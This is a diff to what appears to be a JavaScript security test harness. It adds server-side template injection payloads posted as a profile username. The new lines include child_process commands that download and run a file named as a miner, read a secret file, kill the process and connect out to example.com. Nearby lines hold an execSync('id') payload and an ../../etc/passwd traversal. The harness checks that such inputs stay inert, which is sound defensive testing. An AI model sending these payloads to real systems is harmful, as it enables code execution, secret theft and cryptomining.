@@ -155,6 +155,20 @@ function payloads({ canary, secret, dataDir }) {
   for (const text of ['{{7*7}}', '#{7*7}', '${7*7}', '<%= 7*7 %>', "#{global.process.mainModule.require('child_process').execSync('id')}"]) {
     list.push([`template in feedback ${text}`, { method: 'POST', path: '/api/Feedbacks', body: { comment: text, rating: 3, captchaId: 1, captcha: '0' } }]);
   }
+  // Template payloads in the legacy profile page's username (SSTi; intended: a non-executing
+  // interpreter whose process and child_process are decoys that only write the command down).
+  for (const username of [
+    `#{global.process.mainModule.require('child_process').exec('touch ${canary}/ssti.txt')}`,
+    "#{global.process.mainModule.require('child_process').execSync('wget -O /tmp/pwned http://localhost/quarantine/pulp-miner-linux-x64 && sh /tmp/pwned')}",
+    `#{require('fs').readFileSync('${secret}')}`,
+    "#{this.constructor.constructor('return process')().exit()}",
+    "#{''.constructor.constructor('return process')().mainModule.require('net').connect(80, 'example.com')}",
+    `#{process.mainModule.require('fs').writeFileSync('${canary}/evaluated.txt', 'x')}`,
+  ]) {
+    const form = { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ username }).toString() };
+    list.push([`template in the profile's username ${username.slice(0, 40)}`, { method: 'POST', path: '/profile', ...form }]);
+    list.push([`profile page with ${username.slice(0, 40)}`, { method: 'GET', path: '/profile' }]);
+  }
   // Language files (Extra Language) never leave the translations.
   list.push(['language file traversal', { method: 'GET', path: '/assets/i18n/..%2F..%2F..%2Fpackage.json', headers: { cookie: `language=${encodeURIComponent('../../etc/passwd')}` } }]);
   return list;
